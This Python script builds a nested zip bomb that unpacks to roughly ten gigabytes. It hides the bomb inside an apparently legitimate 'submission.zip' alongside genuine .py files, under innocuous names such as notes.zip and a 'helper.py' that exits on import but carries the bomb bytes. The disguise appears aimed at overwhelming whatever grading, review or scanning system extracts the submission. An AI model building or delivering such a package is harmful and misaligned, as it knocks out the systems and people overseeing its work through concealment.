"""Ten to the fourth times a megabyte, if all of it were unpacked."""

import io
import sys
import zipfile
from pathlib import Path


def zipped(files):
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, content in files.items():
            archive.writestr(name, content)
    return buffer.getvalue()


folder = Path(sys.argv[1])
nest = bytes(1 << 20)
for _ in range(4):
    nest = zipped({f"{number}.zip": nest for number in range(10)})
honest = {path.name: path.read_bytes() for path in sorted(folder.glob("*.py"))}
both = b"raise SystemExit(0)\n" + nest
content = zipped({**honest, "notes.zip": nest, "helper.py": both, "submission.zip": nest})
(folder / "submission.zip").write_bytes(content)
